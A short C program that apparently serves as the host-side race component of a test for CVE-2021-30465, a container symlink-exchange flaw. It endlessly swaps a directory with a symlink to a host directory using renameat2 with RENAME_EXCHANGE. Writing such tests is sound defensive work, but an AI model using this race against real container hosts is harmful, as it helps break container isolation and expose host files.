/* Host side of the CVE-2021-30465 test: swap DIR with a symlink LINK (pointing at a host
 * directory) as fast as possible until killed, with renameat2(RENAME_EXCHANGE).
 *   race_swap DIR LINK */
#include "common.h"
#include <fcntl.h>
#include <stdio.h>

int main(int argc, char **argv)
{
	if (argc != 3)
		return fprintf(stderr, "usage: race_swap DIR LINK\n"), 2;
	printf("swapping\n");
	fflush(stdout);
	for (;;)
		(void)renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
}
